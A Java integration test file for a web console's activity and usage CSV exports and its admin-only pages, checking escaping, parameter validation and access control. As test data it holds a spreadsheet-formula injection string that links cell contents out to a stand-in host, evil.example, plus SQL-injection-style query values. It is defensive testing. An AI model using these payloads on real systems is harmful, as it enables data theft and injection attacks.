package com.activesessions.it.http;

import static com.activesessions.it.UserAgents.FIREFOX;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.activesessions.it.Deployments;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.List;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.shrinkwrap.api.spec.EnterpriseArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * The CSV exports and the administrators' pages over HTTP, as curl sees them: a hostile value
 * comes out as the one field it was, a query with anything but the allowed parameters is refused,
 * and a user who is not an administrator is answered as if the pages were not there.
 */
@ExtendWith(ArquillianExtension.class)
class ActivityExportIT {

    private static final String ADMIN = "admin@example.com";
    private static final String ADMIN_PASSWORD = "admin-demo-password";
    private static final String USER = "alice@example.com";
    private static final String USER_PASSWORD = "alice-demo-password";
    private static final String HOSTILE = "x,\"quoted\"\n=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    @Deployment(testable = false)
    static EnterpriseArchive deployment() {
        return Deployments.application();
    }

    @Test
    void aHostileValueComesOutOfTheCsvAsTheOneFieldItWas() {
        ConsoleClient user = signedIn(USER, USER_PASSWORD);
        assertEquals(
                404,
                user.end(URLEncoder.encode(HOSTILE, StandardCharsets.UTF_8).replace("+", "%20"))
                        .statusCode());
        ConsoleClient admin = signedIn(ADMIN, ADMIN_PASSWORD);

        HttpResponse<String> export = admin.get("/activity.csv?type=SESSION_END_REFUSED&user=alice");

        assertEquals(200, export.statusCode(), export.body());
        assertTrue(export.headers().firstValue("Content-Type").orElse("").startsWith("text/csv"));
        List<List<String>> rows = CsvRows.parse(export.body());
        assertEquals(
                List.of(
                        "Time (UTC)",
                        "Event",
                        "Type",
                        "User",
                        "Session",
                        "IP Address",
                        "Location",
                        "Device",
                        "Details"),
                rows.get(0));
        assertTrue(
                rows.stream().anyMatch(row -> row.size() == 9 && row.get(8).equals("Asked to end session " + HOSTILE)),
                export.body());
        assertTrue(rows.stream().allMatch(row -> row.size() == 9), "a value broke out of its field: " + export.body());
    }

    @Test
    void anExportIsItselfRecordedAndShowsInTheNextExport() {
        ConsoleClient admin = signedIn(ADMIN, ADMIN_PASSWORD);
        assertEquals(200, admin.get("/activity.csv?ip=203.0.113.").statusCode());

        String next = admin.get("/activity.csv?type=EXPORT_MADE").body();

        assertTrue(next.contains("Activity CSV ip=203.0.113."), next);
    }

    @Test
    void aQueryWithAnythingButTheAllowedParametersIsRefused() {
        ConsoleClient admin = signedIn(ADMIN, ADMIN_PASSWORD);

        for (String query : List.of(
                "sort=id",
                "type=SIGNED_IN%27--",
                "from=25%2F11%2F2026",
                "ip=1%27%20OR%20%271%27%3D%271",
                "user=a&user=b",
                "from=2026-11-25&to=2026-11-01")) {
            HttpResponse<String> answer = admin.get("/activity.csv?" + query);
            assertEquals(400, answer.statusCode(), query);
            assertTrue(answer.headers().firstValue("Content-Type").orElse("").startsWith("text/plain"), query);
        }
        assertEquals(400, admin.get("/usage.csv?from=2026-11-01").statusCode());
        assertEquals(
                400,
                admin.get("/usage.csv?from=2026-11-01&to=2026-11-02&user=x").statusCode());
    }

    @Test
    void theUsageExportHasALinePerUserAndTheTotal() {
        signedIn(USER, USER_PASSWORD);
        ConsoleClient admin = signedIn(ADMIN, ADMIN_PASSWORD);
        LocalDate today = LocalDate.now(ZoneOffset.UTC);

        HttpResponse<String> export = admin.get("/usage.csv?from=" + today.minusDays(1) + "&to=" + today);

        assertEquals(200, export.statusCode(), export.body());
        List<List<String>> rows = CsvRows.parse(export.body());
        assertEquals("User", rows.get(0).get(0));
        assertTrue(rows.stream().anyMatch(row -> row.get(0).equals(USER)), export.body());
        assertEquals("All users", rows.get(rows.size() - 1).get(0));
    }

    @Test
    void aUserWhoIsNotAnAdministratorFindsNoActivityOrUsagePagesAndNoExports() {
        ConsoleClient user = signedIn(USER, USER_PASSWORD);

        for (String path :
                List.of("/activity", "/usage", "/activity.csv", "/usage.csv?from=2026-11-01&to=2026-11-02")) {
            assertEquals(404, user.get(path).statusCode(), path);
        }
        assertEquals(200, user.get("/my-activity").statusCode());
    }

    @Test
    void anUnknownOrForeignSessionGetsTheSameNotFound() {
        ConsoleClient admin = signedIn(ADMIN, ADMIN_PASSWORD);
        String adminsSession = admin.currentSessionId();
        ConsoleClient user = signedIn(USER, USER_PASSWORD);

        HttpResponse<String> foreign = user.get("/session?id=" + adminsSession);
        HttpResponse<String> unknown = user.get("/session?id=AAAAAAAAAAAAAAAAAAAAAA");

        assertEquals(404, foreign.statusCode());
        assertEquals(404, unknown.statusCode());
        assertTrue(foreign.body().contains("No such session"));
        assertTrue(unknown.body().contains("No such session"));
        assertEquals(200, admin.get("/session?id=" + adminsSession).statusCode());
    }

    private static ConsoleClient signedIn(String email, String password) {
        ConsoleClient client = new ConsoleClient(FIREFOX);
        assertEquals(302, client.signIn(email, password).statusCode());
        return client;
    }
}
